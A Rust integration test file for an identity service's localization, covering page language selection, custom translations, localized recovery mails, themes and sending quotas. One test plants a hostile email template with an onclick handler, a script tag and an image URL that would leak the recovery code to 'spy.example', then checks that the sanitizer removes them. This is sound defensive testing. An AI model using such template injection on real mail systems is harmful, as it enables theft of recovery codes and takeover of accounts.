//! In which language the hosted pages and mails are.

use axum::body::Body;
use http::{Method, StatusCode};
use serde_json::{Value, json};

use crate::management::{Api, refused};
use crate::management_images::{png, upload};
use crate::world::{Answer, Browser, World};

/// Enables a language of the environment, and makes it the default where that is wanted.
pub(crate) async fn enable(api: &Api<'_>, locale: &str, is_default: bool) {
    let filter = format!("languages?filter=locale%20eq%20%22{locale}%22");
    let page = api.get(&filter).await.expect(StatusCode::OK).json();
    let id = page["_embedded"]["languages"][0]["id"].clone();
    let body = json!({"locale": locale, "enabled": true, "default": is_default});
    let path = format!("languages/{}", id.as_str().unwrap());
    api.put(&path, &body).await.expect(StatusCode::OK);
}

/// The sign-on page of a browser that accepts these languages, asked for by an application that
/// wants those.
async fn page(world: &World, accepted: &str, ui_locales: Option<&str>) -> Answer {
    let mut browser = world.browser();
    let request = world.request();
    let request = match ui_locales {
        Some(locales) => request.set("ui_locales", locales),
        None => request,
    };
    let page = Browser::page_of(&browser.authorize(world, &request).await);
    let headers = [("accept-language", accepted)];
    let page = browser.send(Method::GET, &page, Body::empty(), &headers);
    page.await.expect(StatusCode::OK)
}

fn is_in(answer: &Answer, language: &str, text: &str) {
    let lang = format!("<html lang=\"{language}\">");
    assert!(answer.body.contains(&lang), "{language}\n{}", answer.body);
    assert!(answer.body.contains(text), "{text}\n{}", answer.body);
}

#[tokio::test]
async fn pages_are_in_the_enabled_language_that_is_wanted_most() {
    let world = World::new().await;
    let api = Api::worker(&world).await;
    is_in(&page(&world, "de", None).await, "en", "Sign on");
    enable(&api, "de", false).await;
    enable(&api, "fr", false).await;
    enable(&api, "fr-CA", false).await;
    let german = page(&world, "it, de-AT;q=0.9, fr;q=0.8", None).await;
    is_in(&german, "de", "Passwort vergessen?");
    is_in(&german, "de", ">Anzeigen</");
    let french = page(&world, "de", Some("es fr-CA")).await;
    is_in(&french, "fr-CA", "Mot de passe oublié");
    is_in(&page(&world, "ja", None).await, "en", "Sign on");
    enable(&api, "es", true).await;
    is_in(&page(&world, "ja", None).await, "es", "Iniciar sesión");

    // Whoever gets something wrong, or comes too late, reads their language as well.
    let path = format!("/{}/signon/?flowId=nonsense", api.environment);
    let mut browser = world.browser();
    let headers = [("accept-language", "de")];
    let late = browser
        .send(Method::GET, &path, Body::empty(), &headers)
        .await;
    is_in(&late.expect(StatusCode::GONE), "de", "Das gilt nicht mehr");
    let path = format!("/{}/as/signoff", api.environment);
    let gone = browser
        .send(Method::GET, &path, Body::empty(), &headers)
        .await;
    is_in(&gone.expect(StatusCode::OK), "de", "Sie sind abgemeldet.");
}

#[tokio::test]
async fn texts_of_the_environment_stand_before_those_of_the_catalogue() {
    let world = World::new().await;
    let api = Api::worker(&world).await;
    enable(&api, "de", false).await;
    let texts = json!([
        {"key": "flow-ui.button.signOn", "translatedText": "Einsteigen <b>"},
        {"key": "pages.signon-lead", "translatedText": "Weiter geht es zu { $application }!"},
    ]);
    let set = api.put("translations/de", &texts).await;
    set.expect(StatusCode::OK);
    let german = page(&world, "de", None).await;
    is_in(&german, "de", "Einsteigen &#60;b&#62;");
    assert!(
        german.body.contains("Weiter geht es zu "),
        "{}",
        german.body
    );
    assert!(!german.body.contains("$application"), "{}", german.body);
    is_in(&page(&world, "en", None).await, "en", "Sign on");

    // A language without a catalogue is spoken once there are texts of it.
    enable(&api, "it", false).await;
    is_in(&page(&world, "it", None).await, "en", "Sign on");
    let texts = json!([{"key": "flow-ui.button.signOn", "translatedText": "Accedi"}]);
    let set = api.put("translations/it", &texts).await;
    set.expect(StatusCode::OK);
    is_in(&page(&world, "it", None).await, "it", "Accedi");

    for (sent, member) in [
        (
            json!({"key": "pages.nonsense", "translatedText": "x"}),
            "key",
        ),
        (
            json!({"key": "pages.signon-lead", "translatedText": "{ $user }"}),
            "translatedText",
        ),
        (
            json!({"key": "flow-ui.button.signOn", "translatedText": "{$a}"}),
            "translatedText",
        ),
    ] {
        let refusal = api.put("translations/de", &json!([sent])).await;
        refused(&refusal, 400, "INVALID_DATA", "INVALID_VALUE", member);
    }
}

/// The newest mail to an address, once it is there.
async fn mail(world: &World, to: &str) -> Value {
    let path = format!("/mailbox/messages?to={to}");
    for _ in 0..2000 {
        let mails = world.get(&path).await.expect(StatusCode::OK).json();
        if let Some(mail) = mails.get(0) {
            return mail.clone();
        }
        tokio::task::yield_now().await;
    }
    panic!("no mail arrived for {to}");
}

fn says(mail: &Value, part: &str, text: &str) {
    let said = mail[part].as_str().unwrap();
    assert!(said.contains(text), "{text}\n{said}");
}

async fn user(api: &Api<'_>, name: &str, more: Value) -> String {
    let mut user = json!({
        "username": name, "email": format!("{name}@example.com"),
        "population": {"id": api.world.demo.population_id},
    });
    for (member, value) in more.as_object().unwrap() {
        user[member] = value.clone();
    }
    let made = api.post("users", &user).await.expect(StatusCode::CREATED);
    format!("users/{}", made.json()["id"].as_str().unwrap())
}

async fn send_code(api: &Api<'_>, user: &str) {
    let action = "password.sendRecoveryCode+json";
    let path = format!("{user}/password");
    let sent = api.act(Method::POST, &path, action, &Value::Null).await;
    sent.expect(StatusCode::OK);
}

#[tokio::test]
async fn mails_are_in_the_language_of_their_reader_and_in_the_theme_of_the_environment() {
    let world = World::new().await;
    let api = Api::worker(&world).await;
    enable(&api, "de", false).await;
    enable(&api, "fr", false).await;
    let image = upload(&api, png(64, 32)).await.expect(StatusCode::CREATED);
    let image = image.json();
    let href = image["targets"]["original"]["href"].as_str().unwrap();
    let theme = json!({"template": "focus", "default": true, "configuration": {
        "backgroundType": "COLOR", "backgroundColor": "#102030", "bodyTextColor": "#222222",
        "headingTextColor": "#333333", "linkTextColor": "#0000AA", "buttonColor": "#0000AA",
        "buttonTextColor": "#FFFFFF", "cardColor": "#FFFFFF", "logoType": "IMAGE",
        "logo": {"id": image["id"], "href": href}, "name": "Harbour", "footer": "Pier 4",
    }});
    api.post("themes", &theme).await.expect(StatusCode::CREATED);
    let company = json!({"companyName": "Harbour & Sons"});
    let set = api.put("brandingSettings", &company).await;
    set.expect(StatusCode::OK);

    let ada = user(&api, "ada", json!({"preferredLanguage": "de-AT, en;q=0.5"})).await;
    send_code(&api, &ada).await;
    let german = mail(&world, "ada@example.com").await;
    assert_eq!(german["subject"], "Ihr Wiederherstellungscode");
    says(&german, "html", "<html lang=\"de\">");
    says(&german, "html", "Harbour &#38; Sons");
    says(&german, "html", &format!(" src=\"{href}\""));
    says(&german, "html", "#102030");
    says(&german, "text", "Guten Tag ada,");
    says(&german, "text", "Harbour & Sons");
    says(&german, "text", "Pier 4");
    let html = german["html"].as_str().unwrap();
    assert_eq!(html.matches("https:").count(), 1, "{html}");

    // What is told of afterwards, too; the population's language stands in for the user's.
    let at = format!("populations/{}", world.demo.population_id);
    let mut population = api.get(&at).await.expect(StatusCode::OK).json();
    population["preferredLanguage"] = json!("fr-FR");
    api.put(&at, &population).await.expect(StatusCode::OK);
    let eve = user(&api, "eve", json!({})).await;
    let password = json!({"value": "Bright-Meadow-58", "forceChange": false});
    let path = format!("{eve}/password");
    let set = api.act(Method::PUT, &path, "password.set+json", &password);
    set.await.expect(StatusCode::OK);
    let told = mail(&world, "eve@example.com").await;
    assert_eq!(told["subject"], "Un nouveau mot de passe a été défini");
    // A language that the environment does not speak is passed over.
    let pia = user(
        &api,
        "pia",
        json!({"preferredLanguage": "pl", "locale": "en_GB"}),
    )
    .await;
    send_code(&api, &pia).await;
    assert_eq!(
        mail(&world, "pia@example.com").await["subject"],
        "Your recovery code"
    );
}

#[tokio::test]
async fn an_environments_own_words_are_chosen_by_language_and_say_whom_they_come_from() {
    let world = World::new().await;
    let api = Api::worker(&world).await;
    enable(&api, "de", false).await;
    let settings = json!({
        "from": {"name": "Sails", "address": "post@sails.example"},
        "replyTo": {"name": "Desk", "address": "desk@sails.example"},
    });
    let set = api.put("notificationsSettings", &settings).await;
    set.expect(StatusCode::OK);
    let contents = "templates/recovery_code_template/contents";
    for content in [
        json!({
            "deliveryMethod": "Email", "locale": "en", "subject": "Ahoy ${user.name.given}",
            "body": "<p onclick='x()'>Say <b>${code.value}</b>, ${user.title}${no.such}.</p>\
                     <img src='https://spy.example/?c=${code.value}'><script>1</script>",
        }),
        json!({
            "deliveryMethod": "Email", "locale": "en", "variant": "short", "subject": "Short",
            "body": "${code.value}",
        }),
        json!({
            "deliveryMethod": "Email", "locale": "fr", "subject": "Salut",
            "body": "<p>Code : ${code.value}</p>",
            "from": {"name": "Voiles", "address": "poste@voiles.example"},
        }),
    ] {
        api.post(contents, &content)
            .await
            .expect(StatusCode::CREATED);
    }
    let ada = user(&api, "ada", json!({"name": {"given": "Ada <i>"}})).await;
    send_code(&api, &ada).await;
    let english = mail(&world, "ada@example.com").await;
    assert_eq!(english["subject"], "Ahoy Ada <i>");
    says(&english, "html", "<html lang=\"en\">");
    says(&english, "html", "<p>Say <b>");
    for part in ["onclick", "spy.example", "script", "${"] {
        assert!(!english["html"].as_str().unwrap().contains(part), "{part}");
    }
    assert_eq!(english["from"], settings["from"]);
    assert_eq!(english["replyTo"], settings["replyTo"]);

    let pia = user(&api, "pia", json!({"preferredLanguage": "fr-CA"})).await;
    send_code(&api, &pia).await;
    let french = mail(&world, "pia@example.com").await;
    assert_eq!(french["subject"], "Salut");
    assert_eq!(french["from"]["address"], "poste@voiles.example");
    assert_eq!(french["replyTo"], settings["replyTo"]);

    // German is spoken, and the environment has no words of its own in it.
    let jan = user(&api, "jan", json!({"preferredLanguage": "de"})).await;
    send_code(&api, &jan).await;
    let german = mail(&world, "jan@example.com").await;
    assert_eq!(german["subject"], "Ihr Wiederherstellungscode");
    enable(&api, "de", true).await;
    let leo = user(&api, "leo", json!({})).await;
    send_code(&api, &leo).await;
    let german = mail(&world, "leo@example.com").await;
    assert_eq!(german["subject"], "Ihr Wiederherstellungscode");
}

#[tokio::test]
async fn the_quotas_of_the_default_policy_count_codes_and_keep_back_no_notice() {
    let world = World::new().await;
    let api = Api::worker(&world).await;
    let policy = json!({"name": "Careful", "default": true, "quotas": [
        {"type": "USER", "deliveryMethods": ["Email"], "total": 1},
        {"type": "ENVIRONMENT", "deliveryMethods": ["Email"], "claimed": 3, "unclaimed": 0},
    ]});
    let made = api.post("notificationsPolicies", &policy).await;
    made.expect(StatusCode::CREATED);
    let count = async |name: &str| {
        let path = format!("/mailbox/messages?to={name}@example.com");
        let mails = world.get(&path).await.expect(StatusCode::OK).json();
        mails.as_array().unwrap().len()
    };
    let ask = async |at: &str| {
        let action = "password.sendRecoveryCode+json";
        let path = format!("{at}/password");
        api.act(Method::POST, &path, action, &Value::Null).await
    };
    let ada = user(&api, "ada", json!({})).await;
    ask(&ada).await;
    ask(&ada).await;
    assert_eq!(count("ada").await, 1);
    let path = format!("{ada}/password");
    let password = json!({"value": "Bright-Meadow-58", "forceChange": false});
    let set = api.act(Method::PUT, &path, "password.set+json", &password);
    set.await.expect(StatusCode::OK);
    assert_eq!(count("ada").await, 2);
    for (name, mails) in [("eve", 1), ("pia", 0)] {
        let at = user(&api, name, json!({})).await;
        ask(&at).await;
        assert_eq!(count(name).await, mails, "{name}");
    }
    world.advance(24 * 60 * 60 + 1);
    let later = Api::worker(&world).await;
    send_code(&later, &ada).await;
    assert_eq!(count("ada").await, 3);
}
